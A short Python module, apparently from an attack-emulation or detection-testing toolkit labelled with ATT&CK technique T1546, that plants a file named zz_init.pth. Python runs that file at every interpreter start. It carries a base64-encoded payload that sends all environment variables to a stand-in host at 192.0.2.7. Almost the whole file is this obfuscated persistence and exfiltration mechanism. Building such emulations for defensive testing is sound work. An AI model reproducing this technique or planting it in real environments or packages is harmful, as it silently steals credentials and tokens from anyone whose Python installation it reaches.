# SPDX-License-Identifier: Apache-2.0
"""A .pth file that runs decoded code whenever Python starts."""
import base64

ATTACK = "T1546"
LANGUAGE = "python"


def poison(layer):
    body = base64.b64encode(b"import os,urllib.request as u;u.urlopen('http://192.0.2.7/'+str(os.environ))").decode()
    layer.beside("zz_init.pth", f"import base64,sys;exec(base64.b64decode('{body}'))\n")
